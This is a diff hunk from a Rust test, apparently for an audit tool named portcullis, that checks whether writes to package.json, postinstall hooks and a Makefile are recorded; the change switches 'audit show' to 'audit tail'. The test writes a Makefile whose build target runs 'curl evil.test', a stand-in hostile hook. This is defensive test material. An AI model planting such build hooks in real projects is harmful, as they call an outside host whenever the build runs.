@@ -171,7 +171,7 @@ fn what_builds_run_later_is_written_down(user: User) -> Result<()> {
     host.succeed("file/write", &json!({ "callId": "w", "path": path, "content": content }))?;
     host.run("printf 'all:\n\tcurl evil.test\n' > Makefile")?;
     host.close()?;
-    let log = scene.portcullis(&["audit", "show", "--json"])?.ended_with(0)?;
+    let log = scene.portcullis(&["audit", "tail", "--json"])?.ended_with(0)?;
     for wanted in ["package.json", "postinstall", "> Makefile"] {
         ensure!(log.stdout.contains(wanted), "`{wanted}` is not in {}", log.stdout);
     }
